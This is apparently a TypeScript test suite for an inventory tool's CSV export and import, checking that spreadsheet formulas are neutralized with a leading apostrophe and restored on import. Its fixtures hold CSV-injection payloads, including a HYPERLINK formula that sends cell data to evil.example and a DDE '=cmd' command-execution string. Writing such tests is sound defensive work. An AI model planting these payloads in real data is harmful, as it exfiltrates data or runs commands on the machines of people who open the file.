/**
 * CSV injection: text a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, a tab or a carriage
 * return first) leaves an export behind a leading apostrophe, quoted, and comes back from an
 * import as it was; `estate export --raw` writes it as stored. docs/import-export.md, "Formulas".
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { PassThrough, Readable } from 'node:stream';
import { it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { enrollAgent } from '../../../src/features/agents/agents.service.js';
import { CLI_ACTOR } from '../../../src/base/audit/audit.types.js';
import { FAMILIES } from '../../../src/families/registry.js';
import { exportFamily } from '../../../src/features/transfer/export.js';
import { guardedCell, unguardedCell } from '../../../src/features/transfer/formula-cells.js';
import { importFamily } from '../../../src/features/transfer/import.js';
import { estate } from '../../support/cli.js';
import { personIn, signIn } from '../../support/console.js';
import { describeEachDatabase, type Harness, ONCE, type Workspace } from '../../support/harness.js';
import { installed } from '../../../src/base/paths.js';

const servers = FAMILIES.find((family) => family.definition.path === '/servers')!;
const FORMULA = /^[=+\-@\t\r]/;

const PLANTED = {
  name: '=HYPERLINK("http://evil.example/?d="&B3,"Open")',
  os: "=cmd|'/C calc'!A0",
  manufacturer: '+SUM(1,2)',
  model: '-2+3',
  location: '@SUM(A1:A9)',
  description: "'=already quoted by hand",
  serialNumber: "'plain apostrophe",
};

async function csvOf(h: Harness, workspace: Workspace, raw = false): Promise<string> {
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  await exportFamily(h.database, workspace.id, h.registry.serviceOf(servers), output, { format: 'csv', raw });
  return Buffer.concat(chunks).toString('utf8');
}

async function jsonlOf(h: Harness, workspace: Workspace): Promise<Record<string, unknown>[]> {
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  await exportFamily(h.database, workspace.id, h.registry.serviceOf(servers), output, { format: 'jsonl' });
  return Buffer.concat(chunks)
    .toString('utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

it('guardedCell and unguardedCell: any text comes back exactly, and no guarded text starts a formula', ONCE, () => {
  const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', ' ', ';', '"', '\n') });
  fc.assert(
    fc.property(text, (value) => {
      const cell = guardedCell(value);
      assert.equal(unguardedCell(cell), value);
      assert.doesNotMatch(cell, FORMULA);
    }),
    { numRuns: 2000 },
  );
  // Through a real CSV writer and reader too, as the export and import use them.
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (values) => {
      const csv = stringify([values.map(guardedCell)]);
      const [read] = parse(csv, { relax_column_count: true }) as string[][];
      assert.deepEqual(read!.map(unguardedCell), values);
    }),
    { numRuns: 500 },
  );
});

describeEachDatabase('CSV exports neutralize formulas', (h) => {
  it('values planted by the API and a fleet agent leave a CSV export as text and import back exactly', async () => {
    const source = await h.workspace('Source');
    const key = (await h.key(source)).secret;
    const created = await h.call('POST', '/public/v1/servers', { key, body: { ...PLANTED, hostname: 'planted' } });
    assert.equal(created.statusCode, 201, created.body);
    const tag = await h.call('POST', '/public/v1/tags', { key, body: { name: '-tag' } });
    assert.equal(tag.statusCode, 201, tag.body);
    const serverId = (created.json() as { id: string }).id;
    const tagId = (tag.json() as { id: string }).id;
    assert.equal((await h.call('PUT', `/public/v1/servers/${serverId}/tags/${tagId}`, { key })).statusCode, 204);

    // A fleet agent token alone plants a host name, an OS and a manufacturer.
    const agent = await enrollAgent(h.database, { workspaceId: source.id, name: 'Fleet', fleet: true });
    const inventory = JSON.parse(
      readFileSync(installed('test', 'fixtures', 'inventory', 'linux-server.json'), 'utf8'),
    ) as { content: Record<string, Record<string, unknown>> };
    inventory.content.hardware!.name = '=1+1';
    inventory.content.operatingsystem!.name = '@cmd';
    inventory.content.bios!.smanufacturer = '+HPE';
    const reported = await h.app.inject({
      method: 'POST',
      url: '/inventory',
      payload: JSON.stringify(inventory),
      headers: {
        'content-type': 'application/json',
        authorization: `Basic ${Buffer.from(`fleet:${agent.token}`).toString('base64')}`,
      },
    });
    assert.equal(reported.statusCode, 200, reported.body);

    const csv = await csvOf(h, source);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, 2);
    for (const row of rows)
      for (const [header, cell] of Object.entries(row))
        assert.doesNotMatch(cell, FORMULA, `${header} of ${row.hostname} would run in a spreadsheet: ${cell}`);
    const planted = rows.find((row) => row.hostname === 'planted')!;
    assert.equal(planted.name, `'${PLANTED.name}`);
    assert.equal(planted.os, `'${PLANTED.os}`);
    assert.equal(planted.model, `'${PLANTED.model}`);
    assert.equal(planted.tags, "'-tag");
    assert.equal(planted.description, `'${PLANTED.description}`, 'an apostrophe before a formula gets one more');
    assert.equal(planted.serialNumber, PLANTED.serialNumber, 'an apostrophe before plain text is left alone');
    // The guarded cells are quoted in the file.
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?d=""&B3,""Open"")"`), csv);
    assert.ok(csv.includes(`"'+SUM(1,2)"`), csv);
    const reportedRow = rows.find((row) => row.os === "'@cmd")!;
    assert.equal(reportedRow.manufacturer, "'+HPE");
    assert.equal(reportedRow.name, "'=1+1");

    // Imported into another workspace, every value is the one stored in the source.
    const target = await h.workspace('Target');
    const report = await importFamily(h.database, target.id, h.registry.serviceOf(servers), Readable.from([csv]), {
      format: 'csv',
      actor: CLI_ACTOR,
      source: 'servers.csv',
    });
    assert.deepEqual(report.errors, []);
    const fields = ['name', 'hostname', 'os', 'manufacturer', 'model', 'location', 'description', 'serialNumber'];
    const pick = (items: Record<string, unknown>[]) =>
      items
        .map((item) => Object.fromEntries(fields.map((field) => [field, item[field]])))
        .sort((a, b) => String(a.hostname).localeCompare(String(b.hostname)));
    assert.deepEqual(pick(await jsonlOf(h, target)), pick(await jsonlOf(h, source)));
    const again = pick(await jsonlOf(h, target)).find((item) => item.hostname === 'planted')!;
    assert.deepEqual(again, { ...PLANTED, hostname: 'planted' });
  });

  it('JSON exports and estate export --raw write values as stored; the CLI export guards by default', async () => {
    const ws = await h.workspace();
    const key = (await h.key(ws)).secret;
    const created = await h.call('POST', '/public/v1/servers', { key, body: { name: '=2*3', os: '-x' } });
    assert.equal(created.statusCode, 201, created.body);
    const [item] = await jsonlOf(h, ws);
    assert.equal(item!.name, '=2*3');
    const [raw] = parse(await csvOf(h, ws, true), { columns: true }) as Record<string, string>[];
    assert.equal(raw!.name, '=2*3');

    const guarded = await estate(h.url, ['export', '--workspace', ws.id, '--family', 'servers']);
    assert.equal(guarded.code, 0, guarded.stderr);
    const rows = parse(guarded.stdout, { columns: true }) as Record<string, string>[];
    assert.deepEqual([rows[0]!.name, rows[0]!.os], ["'=2*3", "'-x"]);
    const asStored = await estate(h.url, ['export', '--workspace', ws.id, '--family', 'servers', '--raw']);
    assert.equal(asStored.code, 0, asStored.stderr);
    const [stored] = parse(asStored.stdout, { columns: true }) as Record<string, string>[];
    assert.deepEqual([stored!.name, stored!.os], ['=2*3', '-x']);
    const help = await estate(h.url, ['export', '--help']);
    assert.match(help.stdout, /--raw[\s\S]*WARNING/);
  });

  it("the console's export guards formulas, and its import takes the guard off", async () => {
    const ws = await h.workspace();
    const key = (await h.key(ws)).secret;
    const created = await h.call('POST', '/public/v1/servers', { key, body: { name: '@evil', location: '=A1' } });
    assert.equal(created.statusCode, 201, created.body);
    const client = await signIn(h, (await personIn(h, ws, 'admin', 'Ada Admin')).email);
    const answer = await client.call('GET', '/ui/api/export/servers');
    assert.equal(answer.statusCode, 200, answer.body);
    const [row] = parse(answer.body, { columns: true, bom: true }) as Record<string, string>[];
    assert.deepEqual([row!.name, row!.location], ["'@evil", "'=A1"]);

    const other = await h.workspace();
    const otherClient = await signIn(h, (await personIn(h, other, 'admin', 'Bea Admin')).email);
    const csv = answer.body.replace(/^\uFEFF/, '');
    const imported = await otherClient.call('POST', '/ui/api/import/servers?file=servers.csv', csv, {
      'content-type': 'text/csv',
    });
    assert.equal(imported.statusCode, 200, imported.body);
    const list = await h.call('GET', '/public/v1/servers', { key: (await h.key(other)).secret });
    const [server] = (list.json() as { data: { name: string; location: string }[] }).data;
    assert.deepEqual([server!.name, server!.location], ['@evil', '=A1']);
  });
});
